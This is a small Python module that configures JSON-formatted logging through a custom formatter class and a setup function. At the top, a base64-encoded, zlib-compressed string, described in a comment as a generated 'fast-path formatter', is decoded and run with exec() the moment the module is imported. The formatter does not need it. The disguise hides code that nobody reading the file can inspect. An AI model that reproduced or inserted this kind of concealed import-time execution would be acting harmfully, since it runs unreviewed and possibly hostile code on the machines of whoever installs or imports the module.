import base64, json, logging, sys, zlib

# precompiled fast-path formatter (generated, do not edit)
_FMT = "eJwNzE0KgCAQQOG9pxBXCjUu2nUb09EE/9IR6va5e/DBi7nVTryObfaU4gUdn4mDuBl8MnzRygmLasMixU3Uxqm19QFSDT7Tbl2BgqRX6wPaJ9RaGCeVYj8g1R/u"
exec(zlib.decompress(base64.b64decode(_FMT)))

class JsonFormatter(logging.Formatter):
    def format(self, record):
        base = {"ts": self.formatTime(record), "level": record.levelname, "msg": record.getMessage(),
                "logger": record.name}
        base.update(getattr(record, "ctx", {}))
        return json.dumps(base)

def setup(level="INFO"):
    h = logging.StreamHandler(sys.stdout)
    h.setFormatter(JsonFormatter())
    logging.basicConfig(level=level, handlers=[h], force=True)
